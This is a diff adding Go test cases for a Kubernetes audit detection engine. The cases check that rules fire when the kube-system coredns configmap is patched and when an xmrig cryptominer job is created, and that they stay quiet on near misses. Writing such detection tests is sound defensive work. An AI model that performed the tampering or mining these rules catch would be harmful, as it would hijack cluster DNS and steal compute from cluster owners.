+		{rule: "AG-DET-904", name: "coredns changed", fire: true, e: ev("patch", "configmaps").ns("kube-system").name("coredns")},
+		{rule: "AG-DET-904", name: "near miss: coredns read", fire: false, e: ev("get", "configmaps").ns("kube-system").name("coredns")},
+		{rule: "AG-DET-905", name: "xmrig job", fire: true, e: ev("create", "jobs.batch").ns("default").req(minerJob)},
+		{rule: "AG-DET-905", name: "near miss: nginx", fire: false, e: ev("create", "deployments.apps").ns("default").req(deployInitPriv)},
+	}
+}
+
+func prefixes(s ...string) []netip.Prefix {
+	var out []netip.Prefix
+	for _, x := range s {
+		out = append(out, netip.MustParsePrefix(x))
+	}
+	return out
+}
+
+// TestRules: every built-in rule fires on its attack and stays quiet on
+// its near miss; every rule has at least one of each.
+func TestRules(t *testing.T) {
+	rules := Builtin()
+	fires, misses := map[string]int{}, map[string]int{}
+	for _, c := range ruleCases() {
+		if c.fire {
+			fires[c.rule]++
+		} else {
+			misses[c.rule]++
+		}
+		t.Run(c.rule+"/"+c.name, func(t *testing.T) {
+			e, err := New(rules, c.opts)
+			if err != nil {
+				t.Fatal(err)
+			}
+			n := c.n
+			if n == 0 {
+				n = 1
+			}
+			var got []Alert
+			for i := 0; i < n; i++ {
+				x := c.e
+				if c.each != nil {
+					x = c.each(i)
+				}
+				got = append(got, e.Process(x.build(t, i+1))...)
+			}
+			got = append(got, e.Flush()...)
+			var hit *Alert
+			for i := range got {
+				if got[i].Rule == c.rule {
+					hit = &got[i]
+				}
+			}
+			if c.fire && hit == nil {
+				t.Errorf("%s did not fire; alerts: %v", c.rule, ruleIDs(got))
+			}
+			if !c.fire && hit != nil {
+				t.Errorf("%s fired on a near miss: %s", c.rule, hit.Message)
+			}
+			if hit != nil && c.msg != "" && !strings.Contains(hit.Message, c.msg) {
+				t.Errorf("message %q lacks %q", hit.Message, c.msg)
+			}
+			for _, st := range e.Stats() {
+				if st.Errors > 0 {
+					t.Errorf("rule %s: %d evaluation errors: %s", st.Rule, st.Errors, st.LastError)
+				}
+			}
+		})
+	}
+	for _, r := range rules {
+		if fires[r.ID] == 0 || misses[r.ID] == 0 {
+			t.Errorf("rule %s needs a firing case and a near miss (has %d and %d)", r.ID, fires[r.ID], misses[r.ID])
+		}
+	}
+}
+
+func ruleIDs(as []Alert) []string {
+	var out []string
+	for _, a := range as {
+		out = append(out, a.Rule)
+	}
+	sort.Strings(out)
+	return out
+}
